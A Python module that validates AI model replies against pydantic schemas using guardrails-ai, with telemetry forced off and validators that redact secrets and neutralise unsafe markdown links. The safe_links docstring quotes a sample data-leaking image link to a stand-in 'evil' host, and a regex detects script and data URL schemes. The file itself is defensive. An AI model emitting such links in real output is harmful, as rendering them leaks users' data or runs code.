"""Structured model output: parse a model's reply into a pydantic model, validated by guardrails-ai.

    class Triage(BaseModel):
        severity: Literal["low", "high"]
        summary: str

    out = StructuredOutput(Triage, on_fail="reask", validators={"summary": ["no-secrets", "safe-links"]})
    result = out.validate(reply, reask=ask_model_again)   # -> StructuredResult[Triage]

guardrails parses the reply (it also accepts JSON inside code fences or prose, and coerces ``"3"`` to
``3``), checks it against the model's JSON schema and runs the field validators. What happens when the
reply is invalid is ``on_fail``:

* ``"reask"``: the errors and the schema go back to the model through the ``reask`` callable
  (``messages -> reply``; Maestro passes one that calls the router, tests a scripted one), at most
  ``max_reasks`` times; still invalid -> :class:`StructuredOutputInvalid`.
* ``"fix"``: validators replace what they can fix (``no-secrets`` redacts, ``safe-links`` unlinks); a
  reply that breaks the schema itself cannot be fixed and raises :class:`StructuredOutputInvalid`.
* ``"exception"``: any failure raises :class:`StructuredOutputInvalid`.

Only local validators are used: Maestro's own, registered with ``@register_validator`` (the guardrails
hub is not used). **Offline and no telemetry**: guardrails exports OTLP telemetry to a remote host when
``~/.guardrailsrc`` enables metrics. This module forces ``enable_metrics=false`` and
``use_remote_inferencing=false`` in guardrails' settings in code, on every guard it builds, and checks
the result; setup additionally writes ``~/.guardrailsrc`` with both set to false (DEPENDENCIES.md: the
file is what guardrails' own entry points read). guardrails calls ``nltk.download("punkt")`` at import
when nltk is installed without punkt: importing guardrails through this module refuses that case with a
clear error instead of reaching for the network (point ``NLTK_DATA`` at a directory with
``tokenizers/punkt``). guardrails is imported on first use, not when this module is imported.
"""

from __future__ import annotations

import functools
import importlib.util
import json
import logging
import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace
from typing import Any, Generic, Literal, TypeVar

from pydantic import BaseModel
from pydantic import ValidationError as PydanticValidationError

from maestro.core.errors import ConfigurationError, InvalidRequest, MaestroError
from maestro.tools.pii.secrets import find_secrets

__all__ = [
    "OnFail",
    "Reasker",
    "StructuredOutput",
    "StructuredOutputInvalid",
    "StructuredResult",
    "guardrails_offline",
    "safe_links",
]

log = logging.getLogger(__name__)

M = TypeVar("M", bound=BaseModel)
OnFail = Literal["reask", "fix", "exception"]
Reasker = Callable[[list[dict[str, str]]], str]
ValidatorSpec = str | Callable[..., Any]
_MAX_ERROR_CHARS = 2_000


class StructuredOutputInvalid(MaestroError):
    """The model's reply does not fit the schema (after any reasks); ``details["errors"]`` says why."""

    code = "structured_output_invalid"
    exit_code = 1
    http_status = 502


@dataclass(frozen=True)
class StructuredResult(Generic[M]):
    """A validated reply: the parsed ``value``, the ``raw`` reply it came from, and how many reasks."""

    value: M
    raw: str
    reasks: int


# -- links in model output (RELIABILITY #7) ------------------------------------------------------------

_URL = r"\(\s*<?((?:[^()\s>]|\([^()\s]*\))+)>?(?:\s+\"[^\"]*\")?\s*\)"  # one level of (parens)
_IMAGE = re.compile(r"!\[([^\]]*)\]" + _URL)
_LINK = re.compile(r"(?<!!)\[([^\]]*)\]" + _URL)
_BAD_SCHEME = re.compile(r"^\s*(?:javascript|vbscript|data|file):", re.IGNORECASE)
_HOST = re.compile(r"^[a-z][a-z0-9+.\-]*://([^/?#:@]+@)?([^/?#:]+)", re.IGNORECASE)


def safe_links(text: str, *, allowed_image_hosts: Sequence[str] = ()) -> tuple[str, list[str]]:
    """Neutralise exfiltration in markdown: images from other hosts and script/data links.

    ``![x](https://evil/?d=SECRET)`` leaks data the moment it is rendered; ``[x](javascript:...)`` runs
    code when clicked. Images keep their alt text, dangerous links their text. Returns the safe text and
    a description of each change.
    """
    problems: list[str] = []

    def image(match: re.Match[str]) -> str:
        url = match.group(2)
        host = _HOST.match(url)
        if host and host.group(2).lower() in {h.lower() for h in allowed_image_hosts}:
            return match.group(0)
        if not host and not _BAD_SCHEME.match(url):
            return match.group(0)  # a relative image cannot reach another host
        problems.append(f"image loads from {url[:80]!r}")
        return match.group(1)

    def link(match: re.Match[str]) -> str:
        if _BAD_SCHEME.match(match.group(2)):
            problems.append(f"link uses a script or data URL {match.group(2)[:40]!r}")
            return match.group(1)
        return match.group(0)

    return _LINK.sub(link, _IMAGE.sub(image, text)), problems


# -- guardrails, imported on first use -----------------------------------------------------------------


def _check_nltk() -> None:
    """guardrails downloads punkt at import if nltk is installed without it: refuse that instead."""
    if importlib.util.find_spec("nltk") is None:
        return
    nltk = importlib.import_module("nltk")
    placeholder = str(Path(__file__).resolve().parent / "_nltk_data")
    if placeholder not in nltk.data.path:
        nltk.data.path.append(placeholder)  # holds tokenizers/punkt: the lookup guardrails makes at import
    try:
        nltk.data.find("tokenizers/punkt")
    except LookupError:
        raise ConfigurationError(
            "nltk is installed but its 'punkt' data is missing, so importing guardrails would try to "
            "download "
            "it: set NLTK_DATA to a directory that contains tokenizers/punkt (see docs/operations.md)"
        ) from None


def _offline_rc(loaded: Any, rc_class: Any) -> Any:
    return rc_class(id=loaded.id, token=loaded.token, enable_metrics=False, use_remote_inferencing=False)


@functools.cache
def _guardrails() -> SimpleNamespace:
    """Import guardrails with telemetry forced off; define Maestro's validators once per process."""
    _check_nltk()
    from guardrails import Guard, OnFailAction, Validator, register_validator, settings
    from guardrails.classes.rc import RC
    from guardrails.classes.validation.validation_result import FailResult, PassResult
    from guardrails.errors import ValidationError as GuardrailsValidationError

    loaded = RC.load()
    if loaded.enable_metrics is not False or loaded.use_remote_inferencing is not False:
        log.info(
            "~/.guardrailsrc is missing or enables metrics/remote inference; forcing both off in code "
            "(setup writes the file: enable_metrics=false, use_remote_inferencing=false)"
        )
    settings.rc = _offline_rc(loaded, RC)

    class OfflineGuard(Guard):  # type: ignore[misc]
        """A Guard that never re-reads ``~/.guardrailsrc``: telemetry and remote inference stay off."""

        def _load_rc(self) -> None:
            settings.rc = _offline_rc(settings.rc, RC)

    @register_validator(name="maestro/no-secrets", data_type="string")
    class NoSecrets(Validator):  # type: ignore[misc]
        """Fails when the value contains an API key, token, private key or password; fix: redact them."""

        def _validate(self, value: Any, metadata: dict[str, Any]) -> Any:
            text = str(value)
            found = sorted(find_secrets(text), key=lambda s: s.start, reverse=True)
            if not found:
                return PassResult()
            fixed = text
            for span in found:
                fixed = fixed[: span.start] + f"<{span.entity}>" + fixed[span.end :]
            kinds = ", ".join(sorted({s.entity for s in found}))
            return FailResult(error_message=f"the value contains secrets ({kinds})", fix_value=fixed)

    @register_validator(name="maestro/safe-links", data_type="string")
    class SafeLinks(Validator):  # type: ignore[misc]
        """Fails on markdown images from other hosts and script/data links; fix: keep only their text."""

        def __init__(self, allowed_image_hosts: Sequence[str] = (), **kwargs: Any) -> None:
            super().__init__(allowed_image_hosts=list(allowed_image_hosts), **kwargs)
            self._allowed = tuple(allowed_image_hosts)

        def _validate(self, value: Any, metadata: dict[str, Any]) -> Any:
            fixed, problems = safe_links(str(value), allowed_image_hosts=self._allowed)
            if not problems:
                return PassResult()
            return FailResult(error_message="; ".join(problems), fix_value=fixed)

    return SimpleNamespace(
        Guard=OfflineGuard,
        OnFailAction=OnFailAction,
        ValidationError=GuardrailsValidationError,
        settings=settings,
        validators={"no-secrets": NoSecrets, "safe-links": SafeLinks},
    )


def guardrails_offline() -> bool:
    """Import guardrails (once) with telemetry off; True when its settings confirm both are off."""
    gr = _guardrails()
    return gr.settings.rc.enable_metrics is False and gr.settings.rc.use_remote_inferencing is False


# -- the public helper ---------------------------------------------------------------------------------


class StructuredOutput(Generic[M]):
    """Validates model replies against ``model``; see the module docstring for ``on_fail``.

    ``validators`` maps a field path (``"summary"``, ``"items.title"``) to validators: names of Maestro's
    (``"no-secrets"``, ``"safe-links"``) or factories called as ``factory(on_fail=...)`` returning a
    guardrails ``Validator`` registered locally with ``@register_validator``.
    """

    def __init__(
        self,
        model: type[M],
        *,
        on_fail: OnFail = "reask",
        max_reasks: int = 2,
        validators: Mapping[str, Sequence[ValidatorSpec]] | None = None,
    ) -> None:
        if on_fail not in ("reask", "fix", "exception"):
            raise InvalidRequest(f"unknown on_fail '{on_fail}': choose reask, fix or exception")
        self.model = model
        self.on_fail = on_fail
        self.max_reasks = max_reasks
        gr = _guardrails()
        self._gr = gr
        self._guard = gr.Guard.for_pydantic(model)
        self._guard.configure(allow_metrics_collection=False)
        validator_on_fail = {"reask": "noop", "fix": "fix", "exception": "exception"}[on_fail]
        for path, specs in (validators or {}).items():
            instances = [self._make_validator(spec, validator_on_fail) for spec in specs]
            self._guard.use(*instances, on=f"$.{path}")
        if not guardrails_offline():  # pragma: no cover - only if guardrails changes how settings work
            raise ConfigurationError("guardrails telemetry could not be switched off: refusing to validate")
        self._schema = json.dumps(model.model_json_schema(), indent=1)

    def _make_validator(self, spec: ValidatorSpec, on_fail: str) -> Any:
        if isinstance(spec, str):
            factory = self._gr.validators.get(spec)
            if factory is None:
                known = ", ".join(sorted(self._gr.validators))
                raise InvalidRequest(f"unknown validator '{spec}': choose one of {known} or pass a factory")
            return factory(on_fail=on_fail)
        return spec(on_fail=on_fail)

    def validate(self, raw: str, *, reask: Reasker | None = None) -> StructuredResult[M]:
        """Parse and validate ``raw``; reask, fix or raise per ``on_fail``."""
        reasks = 0
        while True:
            value, errors = self._check(raw)
            if value is not None:
                return StructuredResult(value, raw, reasks)
            if self.on_fail != "reask" or reasks >= self.max_reasks:
                after = f" after {reasks} reask(s)" if reasks else ""
                raise StructuredOutputInvalid(
                    f"the reply does not fit {self.model.__name__}{after}: {'; '.join(errors)}"[
                        :_MAX_ERROR_CHARS
                    ],
                    errors=errors,
                    reasks=reasks,
                )
            if reask is None:
                raise InvalidRequest("on_fail='reask' needs a reask callable (messages -> reply)")
            raw = reask(self.reask_messages(raw, errors))
            reasks += 1

    def reask_messages(self, raw: str, errors: Sequence[str]) -> list[dict[str, str]]:
        """The messages sent back to the model: the schema, what was wrong, its previous reply.

        Secrets in the previous reply are redacted before it is sent back.
        """
        problems = "\n".join(f"- {e}" for e in errors)
        for span in sorted(find_secrets(raw), key=lambda s: s.start, reverse=True):
            raw = raw[: span.start] + f"<{span.entity}>" + raw[span.end :]
        return [
            {
                "role": "system",
                "content": f"Reply with JSON only, matching this JSON schema:\n{self._schema}",
            },
            {
                "role": "user",
                "content": f"Your previous reply was not valid:\n{problems}\n\n"
                f"Previous reply:\n{raw[:4000]}\n\n"
                "Reply again with the corrected JSON only.",
            },
        ]

    def _check(self, raw: str) -> tuple[M | None, list[str]]:
        """The parsed value, or the reasons it is invalid."""
        try:
            outcome = self._guard.parse(raw, num_reasks=0)
        except self._gr.ValidationError as exc:
            return None, [str(exc)[:_MAX_ERROR_CHARS]]
        if outcome.validation_passed and outcome.validated_output is not None:
            try:
                return self.model.model_validate(outcome.validated_output), []
            except PydanticValidationError as exc:
                return None, [f"{'.'.join(map(str, e['loc']))}: {e['msg']}" for e in exc.errors()]
        errors: list[str] = []
        if outcome.reask is not None:
            errors += [str(f.error_message) for f in outcome.reask.fail_results]
        for summary in outcome.validation_summaries or []:
            if str(summary.validator_status) in {"fail", "Outcome.FAIL"} or summary.failure_reason:
                errors.append(f"{summary.property_path}: {summary.failure_reason}")
        if outcome.error:
            errors.append(str(outcome.error))
        return None, errors or ["the reply could not be validated"]
